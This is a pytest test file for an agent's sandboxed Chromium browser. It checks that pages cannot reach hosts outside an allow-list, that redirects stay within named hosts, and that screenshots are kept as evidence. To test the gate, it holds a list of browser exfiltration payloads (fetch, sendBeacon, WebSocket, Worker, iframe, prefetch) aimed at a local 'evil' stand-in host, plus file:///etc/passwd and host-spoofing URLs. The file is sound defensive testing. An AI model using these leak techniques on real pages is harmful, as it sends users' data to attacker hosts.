"""The browser: a real Chromium that reaches only what it was told to, and keeps what it saw."""

from __future__ import annotations

import threading
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import pytest_asyncio
from playwright.async_api import Error as PlaywrightError

from agents.errors import BrowserUnavailable
from agents.tools.browser import Browser, find_chromium
from agents.tools.browser.gate import is_named
from tests.agents.builders import context

one_loop = pytest.mark.asyncio(loop_scope="module")
PNG = b"\x89PNG\r\n\x1a\n"


@dataclass
class Site:
    """A tiny site that remembers what it was asked for; ``pages`` are bodies, or ``-> URL`` for a redirect."""

    pages: dict[str, str] = field(default_factory=dict)
    asked: list[str] = field(default_factory=list)
    cookies: list[str | None] = field(default_factory=list)
    host: str = ""

    def __post_init__(self) -> None:
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                site.asked.append(self.path)
                site.cookies.append(self.headers["Cookie"])
                page = site.pages.get(self.path, "")
                moved = page.startswith("-> ")
                self.send_response(302 if moved else 200)
                if moved:
                    self.send_header("Location", page[3:])
                self.send_header("Content-Type", "text/html")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Set-Cookie", "seen=1")
                self.end_headers()
                self.wfile.write(page.encode())

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.host = f"127.0.0.1:{self.server.server_port}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def url(self, path: str = "/") -> str:
        """The address of a page."""
        return f"http://{self.host}{path}"

    def close(self) -> None:
        """Stop."""
        self.server.shutdown()
        self.server.server_close()
        self.thread.join()


@pytest.fixture
def site() -> Iterator[Site]:
    made = Site()
    yield made
    made.close()


@pytest.fixture
def evil() -> Iterator[Site]:
    made = Site(pages={"/": "stolen"})
    yield made
    made.close()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser() -> AsyncIterator[Browser]:
    made = Browser()
    yield made
    await made.close()


def test_chromium_is_found_on_this_machine(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.delenv("SETTLE_CHROMIUM", raising=False)
    found = find_chromium()
    assert found is not None
    assert found.exists()
    monkeypatch.setenv("SETTLE_CHROMIUM", str(tmp_path / "none"))
    assert find_chromium() is None
    monkeypatch.setenv("SETTLE_CHROMIUM", str(found))
    assert find_chromium() == found


@one_loop
async def test_a_machine_without_chromium_says_so(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    browser = Browser()
    monkeypatch.setenv("SETTLE_CHROMIUM", str(tmp_path / "none"))
    with pytest.raises(BrowserUnavailable, match="no Chromium was found"):
        async with browser.script(context(), hosts=set()):
            raise AssertionError("never started")
    broken = tmp_path / "chromium"
    broken.write_text("#!/bin/sh\nexit 1\n")
    broken.chmod(0o755)
    monkeypatch.setenv("SETTLE_CHROMIUM", str(broken))
    with pytest.raises(BrowserUnavailable, match="does not start"):
        async with browser.script(context(), hosts=set()):
            raise AssertionError("never started")
    await browser.close()


@one_loop
async def test_a_screenshot_is_kept_as_evidence(browser: Browser, site: Site) -> None:
    site.pages["/"] = "<h1>Order</h1><input type=password value=secret>"
    ctx = context()
    async with browser.script(ctx, hosts={site.host}) as script:
        await script.page.goto(site.url())
        kept = await script.screenshot("after")
    assert ctx.kept == [kept]
    assert (kept.media_type, kept.label) == ("image/png", "after")
    assert ctx.evidence_store.get(kept.sha256).startswith(PNG)


@one_loop
async def test_scripts_share_nothing(browser: Browser, site: Site) -> None:
    for _ in range(2):
        async with browser.script(context(), hosts={site.host}) as script:
            await script.page.goto(site.url())
    assert [cookie for path, cookie in zip(site.asked, site.cookies, strict=True) if path == "/"] == [None, None]


@one_loop
async def test_a_page_of_another_host_is_refused(browser: Browser, site: Site, evil: Site) -> None:
    async with browser.script(context(), hosts={site.host}) as script:
        for url in (evil.url(), "file:///etc/passwd"):
            with pytest.raises(PlaywrightError):
                await script.page.goto(url)
    assert evil.asked == []


LEAKS = {
    "image": "<img src='{evil}/'>",
    "fetch": "<script>fetch('{evil}/').catch(() => 0)</script>",
    "beacon": "<script>navigator.sendBeacon('{evil}/', 'x')</script>",
    "frame": "<iframe src='{evil}/'></iframe>",
    "redirected image": "<img src='/away'>",
    "redirected twice": "<iframe src='/twice'></iframe>",
    "popup": "<script>window.open('{evil}/')</script>",
    "redirected popup": "<script>window.open('/away')</script>",
    "websocket": "<script>new WebSocket('{evil}/'.replace('http', 'ws'))</script>",
    "redirected fetch": "<script>fetch('/away').catch(() => 0)</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{evil}/')\"])))</script>",
    "redirected worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{site}/away')\"])))</script>",
    "prefetch": "<link rel=prefetch href='{evil}/'><link rel=preconnect href='{evil}/'>",
}


@one_loop
async def test_no_page_reaches_a_host_that_was_not_named(browser: Browser, site: Site, evil: Site) -> None:
    body = ""
    for number, (kind, leak) in enumerate(LEAKS.items()):
        away = f"{evil.url()}{kind.replace(' ', '-')}"
        site.pages |= {f"/away{number}": f"-> {away}", f"/twice{number}": f"-> /away{number}"}
        body += (
            leak.replace("{evil}/", away).replace("{site}", f"http://{site.host}").replace("/away", f"/away{number}")
        )
        body = body.replace("/twice'", f"/twice{number}'")
    site.pages |= {"/": body, "/done": "done"}
    async with browser.script(context(), hosts={site.host}) as script:
        await script.page.goto(site.url(), wait_until="networkidle")
        await script.page.goto(site.url("/done"))
        assert await script.page.inner_text("body") == "done"
    assert evil.asked == []
    redirected = {f"/away{number}" for number, kind in enumerate(LEAKS) if kind.startswith("redirected")}
    assert redirected <= set(site.asked)


@one_loop
async def test_a_redirect_to_a_named_host_is_followed_and_to_another_is_not(
    browser: Browser, site: Site, evil: Site
) -> None:
    site.pages |= {"/login": "-> /orders", "/orders": "orders", "/away": f"-> {evil.url()}"}
    async with browser.script(context(), hosts={site.host}) as script:
        await script.page.goto(site.url("/login"))
        assert script.page.url == site.url("/orders")
        with pytest.raises(PlaywrightError):
            await script.page.goto(site.url("/away"))
    assert evil.asked == []


@pytest.mark.parametrize(
    "url, named",
    [
        ("http://shop.example:8080/a", True),
        ("http://Shop.Example:8080/a", True),
        ("https://bank.example/", True),
        ("https://bank.example:443/", True),
        ("https://plain.example/", True),
        ("http://plain.example/", True),
        ("http://shop.example/", False),
        ("http://shop.example:80801/", False),
        ("https://bank.example:444/", False),
        ("https://evil.example/", False),
        ("https://bank.example.evil.example/", False),
        ("https://bank.example@evil.example/", False),
        ("file:///etc/passwd", False),
        ("file://plain.example/x", False),
        ("ftp://plain.example/", False),
        ("http:///", False),
        ("", False),
    ],
)
def test_a_host_is_named_with_its_port_or_at_the_default_one(url: str, named: bool) -> None:
    assert is_named(url, {"shop.example:8080", "BANK.example:443", "plain.example"}) is named


@one_loop
async def test_forms_and_queries_pass_the_gate_whole(browser: Browser, site: Site) -> None:
    site.pages |= {"/": "<form action=/sent><input name=q value='a b&amp;ü'><button>Go</button></form>"}
    async with browser.script(context(), hosts={site.host}) as script:
        await script.page.goto(site.url())
        await script.page.get_by_role("button").click()
        await script.page.wait_for_url("**/sent**")
    assert "/sent?q=a+b%26%C3%BC" in site.asked


@one_loop
async def test_the_browser_starts_again_after_it_was_closed(browser: Browser, site: Site) -> None:
    site.pages["/"] = "hello"
    for _ in range(2):
        async with browser.script(context(), hosts={site.host}) as script:
            await script.page.goto(site.url())
            assert await script.page.inner_text("body") == "hello"
        await browser.close()
